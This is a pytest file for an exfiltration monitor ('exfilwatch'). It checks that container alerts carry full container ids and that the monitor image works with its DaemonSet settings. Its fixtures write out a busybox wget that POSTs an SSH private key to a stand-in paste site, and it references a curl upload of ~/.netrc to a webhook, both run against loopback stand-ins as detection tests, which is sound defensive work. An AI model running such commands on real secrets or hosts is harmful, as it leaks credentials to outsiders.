"""Containers, end to end: an exfiltrating process in a Docker container is named by its full
container id, and the monitor works from its own image started with deploy/daemonset.yaml's
settings (capabilities, host PID namespace, read-only hostPath mounts; not privileged).

Root, a real kernel, dockerd (conftest starts it when it is not running) and two local images
(scripts/docker-base-image --test, seconds). The "paste site" paste.rs is the harness's stand-in
service on loopback: containers reach it through --network host and --add-host.
"""

import re
import urllib.error
import urllib.request
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from harness import (ATTACKS, Monitor, alert_threshold, as_list, assert_alert,
                     check_service_saw, execute, get, is_action, is_alert, paths, wait_until)
from harness.config import HTTP_PORT, HTTPS_PORT, METRICS_PORT

DAEMONSET = paths.REPO / "deploy" / "daemonset.yaml"
DETECTION_TIMEOUT_S = 30.0
CONTAINER_TIMEOUT_S = 60
PROBE_TIMEOUT_S = 10.0
FULL_ID = re.compile(r"^[0-9a-f]{64}$")
KEY_IN_CONTAINER = "/root/.ssh/id_ed25519"

# Docker < 23 (Debian 12's docker.io is 20.10) does not know CAP_BPF and CAP_PERFMON; the kernel's
# bpf_capable() and perfmon_capable() accept CAP_SYS_ADMIN in their place.
NEW_CAPS = ("BPF", "PERFMON")
OLD_DOCKER_STAND_IN = "SYS_ADMIN"


# ---------------------------------------------------------------- helpers


def docker(*args, timeout=CONTAINER_TIMEOUT_S, check=True):
    done = subprocess.run(["docker", *args], capture_output=True, text=True, timeout=timeout)
    if check and done.returncode != 0:
        pytest.fail(f"docker {' '.join(args[:3])} ... failed ({done.returncode}): "
                    f"{done.stderr.strip()[-2000:]}", pytrace=False)
    return done


def run_uploader(busybox, fake_home):
    """A busybox container that reads the fake HOME's SSH key (mounted read-only, as a secret
    would be) and POSTs it to paste.rs; returns the full id `docker run -d` printed, after the
    container exited 0 and was removed."""
    key_dir = fake_home.path / ".ssh"
    script = (f"wget -q -O /dev/null --post-file={KEY_IN_CONTAINER} "
              f"http://paste.rs:{HTTP_PORT}/upload")
    container_id = docker("run", "-d", "--network", "host", "--add-host", "paste.rs:127.0.0.1",
                          "-v", f"{key_dir}:/root/.ssh:ro", busybox, "sh", "-c",
                          script).stdout.strip()
    try:
        assert FULL_ID.match(container_id), f"docker run -d printed {container_id!r}"
        status = docker("wait", container_id).stdout.strip()
        if status != "0":
            logs = docker("logs", container_id, check=False)
            pytest.fail(f"the uploading container exited {status}: {logs.stdout}{logs.stderr}",
                        pytrace=False)
    finally:
        docker("rm", "-f", container_id, check=False)
    return container_id


def check_upload_arrived(standin, fake_home):
    size = (fake_home.path / ".ssh" / "id_ed25519").stat().st_size
    standin.wait_for_request(
        lambda r: r.get("host", "").startswith("paste.rs") and r.get("body_bytes") == size,
        15.0, f"the container's {size}-byte POST to paste.rs")


def wget_exec_in(container_id):
    return is_action("exec", {"container.id": container_id,
                              "process.args": lambda a: bool(a) and a[0] == "wget"})


def alert_for(container_id):
    return lambda r: is_alert(r) and get(r, "container.id") == container_id


def check_container_alert(alert, container_id):
    """The alert names the container exactly and scores the upload as the paste-site T1567.003."""
    assert get(alert, "container.id") == container_id
    assert "T1567.003" in [str(v) for v in as_list(get(alert, "threat.technique.subtechnique.id"))]
    assert get(alert, "event.risk_score") >= alert_threshold()
    assert get(alert, "process.args")[0] == "wget"
    signals = {s["name"]: s for s in get(alert, "exfilwatch.signals")}
    assert "in-container" in signals, sorted(signals)
    assert signals["in-container"]["evidence"] == container_id[:12]


def daemonset_container():
    """deploy/daemonset.yaml's pod spec and its (only) container."""
    with open(DAEMONSET) as handle:
        documents = [d for d in yaml.safe_load_all(handle) if d]
    daemonsets = [d for d in documents if d.get("kind") == "DaemonSet"]
    assert len(daemonsets) == 1, f"{DAEMONSET}: want one DaemonSet, found {len(daemonsets)}"
    pod = daemonsets[0]["spec"]["template"]["spec"]
    assert len(pod["containers"]) == 1
    return pod, pod["containers"][0]


def daemonset_docker_args(old_docker):
    """`docker run` flags equivalent to the DaemonSet's pod: every capability, mount and
    security setting comes from the manifest, so the test runs what the cluster would."""
    pod, container = daemonset_container()
    security = container["securityContext"]
    assert not security.get("privileged"), "the DaemonSet must not be privileged"
    args = []
    if pod.get("hostPID"):
        args += ["--pid", "host"]
    if pod.get("hostNetwork"):
        args += ["--network", "host"]
    user = f"{security.get('runAsUser', 0)}:{security.get('runAsGroup', 0)}"
    args += ["--user", user]
    if security.get("readOnlyRootFilesystem"):
        args.append("--read-only")
    if security.get("allowPrivilegeEscalation") is False:
        args += ["--security-opt", "no-new-privileges"]
    if security.get("seccompProfile", {}).get("type") == "Unconfined":
        args += ["--security-opt", "seccomp=unconfined"]
    for cap in security["capabilities"].get("drop", []):
        args += ["--cap-drop", cap]
    added = list(security["capabilities"].get("add", []))
    if old_docker:
        added = [c for c in added if c not in NEW_CAPS] + [OLD_DOCKER_STAND_IN]
    for cap in added:
        args += ["--cap-add", cap]
    volumes = {v["name"]: v for v in pod["volumes"]}
    for mount in container["volumeMounts"]:
        volume = volumes[mount["name"]]
        if "hostPath" in volume:
            mode = ":ro" if mount.get("readOnly") else ""
            args += ["-v", f"{volume['hostPath']['path']}:{mount['mountPath']}{mode}"]
        elif "emptyDir" in volume:
            args += ["--tmpfs", mount["mountPath"]]
        elif volume.get("configMap", {}).get("optional"):
            continue  # the custom-rules ConfigMap: optional, absent by default
        else:
            pytest.fail(f"no docker equivalent for volume {volume}", pytrace=False)
    # Container ports (the /metrics, /healthz, /readyz listener) published on loopback, the
    # first at METRICS_PORT: what the kubelet's probes and Prometheus reach on the pod's address.
    for offset, port in enumerate(container.get("ports", [])):
        args += ["-p", f"127.0.0.1:{METRICS_PORT + offset}:{port['containerPort']}/{port.get('protocol', 'TCP').lower()}"]
    return args, list(container["args"])


def probe_url(container, probe):
    """The host URL of an httpGet probe of the container (its port by name or number)."""
    http_get = container[probe]["httpGet"]
    ports = container.get("ports", [])
    index = next(i for i, p in enumerate(ports) if http_get["port"] in (p.get("name"), p["containerPort"]))
    return f"http://127.0.0.1:{METRICS_PORT + index}{http_get['path']}"


def http_status(url):
    try:
        with urllib.request.urlopen(url, timeout=3) as response:
            return response.status
    except urllib.error.HTTPError as e:
        return e.code
    except (urllib.error.URLError, ConnectionError, OSError):
        return None


def docker_knows_new_caps(busybox):
    """False on Docker < 23, which refuses `--cap-add BPF` ("unknown capability")."""
    done = docker("run", "--rm", "--cap-add", "BPF", "--cap-add", "PERFMON", busybox, "true",
                  check=False)
    if done.returncode == 0:
        return True
    if "unknown capability" in done.stderr.lower():
        return False
    pytest.fail(f"docker run --cap-add BPF failed for another reason: {done.stderr}",
                pytrace=False)


class ContainerMonitor(Monitor):
    """The monitor image under `docker run` in the foreground: its stdout is the NDJSON stream,
    and SIGINT reaches the monitor through docker's signal proxy, so the harness's start, wait,
    stop (exit 0, monitor-stopped) and schema validation apply unchanged."""

    def __init__(self, workdir, image, docker_args, monitor_args, name):
        super().__init__(workdir, binary=Path(shutil.which("docker")), start_timeout=60,
                         stop_timeout=40, name="container-monitor")
        self.container_name = name
        self.argv = [str(self.binary), "run", "--rm", "--name", name, *docker_args, image,
                     *monitor_args]

    def start(self):
        try:
            return super().start()
        except BaseException:
            self._remove()
            raise

    def stop(self):
        try:
            return super().stop()
        finally:
            self._remove()

    def _remove(self):
        subprocess.run(["docker", "rm", "-f", self.container_name], capture_output=True,
                       timeout=CONTAINER_TIMEOUT_S)


# ---------------------------------------------------------------- tests


def test_container_upload_alert_carries_full_container_id(images, standin, fake_home,
                                                          host_monitor):
    """Issue 6: `docker run` of a busybox container that uploads a key gives an alert whose
    container.id is the container's full id; host processes stay without one."""
    container_id = run_uploader(images["busybox"], fake_home)
    check_upload_arrived(standin, fake_home)

    exec_record = host_monitor.wait_for(wget_exec_in(container_id), DETECTION_TIMEOUT_S,
                                        f"the exec of wget in container {container_id[:12]}")
    assert get(exec_record, "process.executable") == "/bin/busybox"
    alert = host_monitor.wait_for(alert_for(container_id), DETECTION_TIMEOUT_S,
                                  f"an alert for container {container_id[:12]}")
    check_container_alert(alert, container_id)
    assert get(alert, "process.pid") == get(exec_record, "process.pid")

    docker_cli = host_monitor.wait_for(
        is_action("exec", {"process.args": lambda a: bool(a) and a[:2] == ["docker", "run"]}),
        DETECTION_TIMEOUT_S, "the exec of the host's `docker run`")
    assert get(docker_cli, "container.id") is None, "a host process was given a container id"
    host_monitor.stop()  # exit 0, monitor-stopped, every record valid against schemas/


def test_monitor_image_with_daemonset_settings(images, standin, fake_home, tmp_path):
    """Deliverable 5: the monitor in its own image, started with the DaemonSet's capabilities
    and mounts (not --privileged), attaches every hook, detects a host-side scenario and names
    a container's upload by its full id; its readiness and liveness probes pass."""
    old_docker = not docker_knows_new_caps(images["busybox"])
    docker_args, monitor_args = daemonset_docker_args(old_docker)
    assert "--privileged" not in docker_args
    name = f"exfilwatch-test-{tmp_path.name}"
    monitor = ContainerMonitor(tmp_path / "monitor", images["monitor"], docker_args,
                               [*monitor_args, "--events", "all"], name)
    with monitor:
        hooks = get(monitor.started_record, "exfilwatch.hooks")
        assert hooks["degraded"] == [], f"hooks degraded in the container: {hooks['degraded']}"
        assert hooks["attached"], "no hook attached"

        # The kubelet's probes, as the DaemonSet declares them: readiness on /readyz (hooks
        # attached, /proc scanned), liveness on /healthz (the ring-buffer loop runs).
        _, container = daemonset_container()
        for probe, path in (("readinessProbe", "/readyz"), ("livenessProbe", "/healthz")):
            url = probe_url(container, probe)
            assert url.endswith(path), url
            wait_until(lambda: http_status(url) == 200, PROBE_TIMEOUT_S, f"the {probe} ({url}) to answer 200")
        metrics_url = probe_url(container, "livenessProbe").replace("/healthz", "/metrics")
        with urllib.request.urlopen(metrics_url, timeout=5) as response:
            assert "exfilwatch_ringbuf_records_read_total" in response.read().decode()

        scenario = ATTACKS[0]  # curl uploads ~/.netrc to a Slack webhook, on the host
        execute(scenario, fake_home, tmp_path, HTTPS_PORT)
        check_service_saw(scenario, standin)
        host_alert = monitor.wait_for(
            lambda r: is_alert(r) and get(r, "destination.domain") == scenario.domain,
            DETECTION_TIMEOUT_S, f"an alert for the host's upload to {scenario.domain}")
        assert get(host_alert, "container.id") is None, "a host process was given a container id"
        # Content matching from the image too: the TLS uprobes sit on the host's libssl (found
        # through /proc/1/root), so the plaintext curl sent shows ~/.netrc's content.
        monitor.wait_for(
            lambda r: is_alert(r) and get(r, "destination.domain") == scenario.domain and any(
                s.get("name") == "content-match" for s in get(r, "exfilwatch.signals") or []),
            DETECTION_TIMEOUT_S, f"a content-match signal for the host's upload to {scenario.domain}")

        container_id = run_uploader(images["busybox"], fake_home)
        check_upload_arrived(standin, fake_home)
        check_container_alert(monitor.wait_for(alert_for(container_id), DETECTION_TIMEOUT_S,
                                               f"an alert for container {container_id[:12]}"),
                              container_id)
    assert_alert(monitor.records(), scenario.technique)
